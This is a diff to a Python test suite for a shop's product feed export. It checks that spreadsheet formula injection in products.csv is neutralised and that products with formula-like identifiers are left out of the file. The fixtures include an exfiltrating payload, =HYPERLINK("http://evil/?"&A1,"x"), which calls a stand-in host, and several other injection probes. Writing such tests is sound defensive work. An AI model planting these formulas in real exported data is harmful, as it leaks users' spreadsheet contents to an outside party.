@@ -148,19 +148,40 @@ async def test_the_csv_feed_has_remarketys_columns(backend):  # both backends
 
 async def test_a_claimed_title_is_no_formula_in_the_csv(tmp_path):
     """A page claimed the title ``=HYPERLINK("http://evil/?"&A1,"x")``: it was written raw,
-    and a spreadsheet opening products.csv ran it. Now every such cell starts with a '."""
+    and a spreadsheet opening products.csv ran it. Now every such free-text cell starts with
+    a '; a product whose id would open as one is not in products.csv at all."""
     evil = '=HYPERLINK("http://evil/?"&A1,"x")'
     async with Feed(tmp_path) as client:
         await browser(client, {"event": "view_item", "event_id": str(uuid.uuid4()),
                                "ecommerce": {"currency": "USD", "items": [
-                                   item("@SUM(1+1)*cmd", item_name=evil, item_brand="+1",
-                                        item_category="-2", description="=1+1")]}})
+                                   item("EVIL-1", item_name=evil, item_brand="+1",
+                                        item_category="-2", description="=1+1"),
+                                   item("@SUM(1+1)*cmd")]}})
         answer = await client.get(f"/feeds/shop1/products.csv?token={TOKEN}")
     assert answer.status_code == 200, answer.text
     [row] = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8"), newline="")))
     assert (row["id"], row["title"], row["brand"], row["product_type"], row["description"]) == (
-        "'@SUM(1+1)*cmd", "'" + evil, "'+1", "'-2", "'=1+1")
-    assert row["link"] == "https://shop.example/p/@SUM(1+1)*cmd"
+        "EVIL-1", "'" + evil, "'+1", "'-2", "'=1+1")
+
+
+async def test_csv_ids_are_the_events_ids_or_the_product_is_left_out(tmp_path):
+    """Remarkety matches the product_id/sku of orders, carts and product views to the feed's
+    ("the product id/sku should match a product from the products feed"): id, sku and
+    item_group_id are written exactly as events name them, never with a leading '. A
+    product whose identifier would open as a spreadsheet formula is left out of products.csv
+    (a wrong id in it is no better: the vendor's id would match nothing); products.xml,
+    which no spreadsheet runs, lists it as it is."""
+    async with Feed(tmp_path) as client:
+        await backend_api(client, update(item("A-1", item_sku="A-1-S", item_group_id="A",
+                                              item_name="-50% mug"),
+                                         item("-123"), item("B-2", item_sku="+44"),
+                                         item("C-3", item_group_id="@group")))
+        answer = await client.get(f"/feeds/shop1/products.csv?token={TOKEN}")
+        xml = await client.get(f"/feeds/shop1/products.xml?token={TOKEN}")
+    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8"), newline="")))
+    assert [(r["id"], r["sku"], r["item_group_id"], r["title"]) for r in rows] == [
+        ("A-1", "A-1-S", "A", "'-50% mug")]
+    assert sorted(xml_items(xml.text)) == ["-123", "A-1", "B-2", "C-3"]
 
 
 async def test_products_without_a_link_or_image_and_deleted_ones_are_left_out(backend):  # both backends
@@ -291,17 +312,25 @@ def unformula(text: str) -> str:
 
 @settings(max_examples=300, deadline=None)
 @given(start=st.sampled_from(FORMULA + ("'", " ", "a", "")), text=TEXT)
-def test_no_csv_cell_opens_as_a_formula(start, text):
+def test_no_csv_cell_opens_as_a_formula_and_ids_are_exact(start, text):
     value = start + text or "x"
     row = {"item_id": value, "title": value, "description": value,
            "item_url": "https://shop.example/p", "image_url": "https://shop.example/i",
            "price_minor": 1, "currency": "EUR", "availability": None, "brand": value,
            "categories": [value], "google_product_category": value, "item_group_id": value,
            "sku": value}
-    [parsed] = list(csv.reader(io.StringIO(feeds._csv_line(feeds.csv_row(row)), newline="")))
+    if feeds.clean(value).startswith(FORMULA):
+        # Identifiers that would open as a formula: the product is not in the file at all.
+        assert feeds.csv_line(row) == ""
+        row = {**row, "item_id": "ID-1", "item_group_id": None, "sku": "S-1"}
+    [parsed] = list(csv.reader(io.StringIO(feeds.csv_line(row), newline="")))
     assert not any(cell.startswith(FORMULA) for cell in parsed), parsed
+    # The identifiers exactly (what events name the product by); free text made inert.
+    assert (parsed[0], parsed[1], parsed[6]) == (feeds.clean(row["item_id"]),
+                                                 feeds.clean(row["item_group_id"] or ""),
+                                                 feeds.clean(row["sku"]))
     expected = unformula(feeds.clean(value))
-    assert parsed[:4] + parsed[6:7] + parsed[9:10] + parsed[11:] == [expected] * 7
+    assert parsed[2:4] + parsed[9:10] + parsed[11:] == [expected] * 4
     assert parsed[10] == unformula(feeds.clean(value.replace("|", "/")))
 
 
